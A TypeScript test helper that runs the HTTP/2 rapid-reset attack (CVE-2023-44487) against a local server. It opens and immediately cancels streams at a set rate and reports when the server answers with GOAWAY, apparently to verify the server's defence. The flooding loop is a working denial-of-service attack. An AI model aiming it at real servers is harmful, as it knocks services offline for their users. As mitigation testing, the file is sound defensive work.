/**
 * `node --import tsx test/helpers/rapid-reset-attacker.ts <port> <streams a second> [ca file]`:
 * the HTTP/2 rapid-reset attack (CVE-2023-44487) on one connection, in a
 * process of its own so that it does not slow the test that measures others'
 * latency meanwhile. Opens streams (HEADERS of a Connect call, no body) and
 * resets each at once (RST_STREAM CANCEL), at the given rate, for at most
 * 10 s, and stops when the server's GOAWAY arrives. Prints one JSON line:
 * how many streams it sent, when the GOAWAY arrived and with which code and
 * last stream, and when the socket closed (ms from the first stream).
 */
import { readFileSync } from "node:fs";
import { connectRawH2, FrameType, grpcHeaders } from "./raw-h2-client.js";

const port = Number(process.argv[2]);
const perSecond = Number(process.argv[3]);
const caFile = process.argv[4];
const attacker = await connectRawH2(port, caFile === undefined ? {} : { ca: readFileSync(caFile) });
const cancel = Buffer.alloc(4);
cancel.writeUInt32BE(8);
const started = performance.now();
let closedMs: number | undefined;
void attacker.closed.then(() => (closedMs = performance.now() - started));
const goaway = () => attacker.frames.find((f) => f.type === FrameType.GOAWAY);
let goawayMs: number | undefined;
let streams = 0;
while (closedMs === undefined && performance.now() - started < 10_000) {
  if (goaway() !== undefined) {
    goawayMs = performance.now() - started;
    break;
  }
  const due = Math.floor(((performance.now() - started) / 1000) * perSecond);
  for (; streams < due; streams++) {
    const id = 1 + 2 * streams;
    attacker.request(id, grpcHeaders("/chat.v1.ChatService/Connect"), undefined, false);
    attacker.send(FrameType.RST_STREAM, 0, id, cancel);
  }
  await new Promise((resolve) => setTimeout(resolve, 5));
}
const timeout = setTimeout(() => attacker.destroy(), 5000);
await attacker.closed;
clearTimeout(timeout);
const frame = goaway();
process.stdout.write(
  `${JSON.stringify({
    streams,
    goawayMs,
    closedMs,
    goawayCode: frame?.payload.readUInt32BE(4),
    lastStreamId: frame === undefined ? undefined : frame.payload.readUInt32BE(0) & 0x7fffffff,
  })}\n`,
);
process.exit(0);
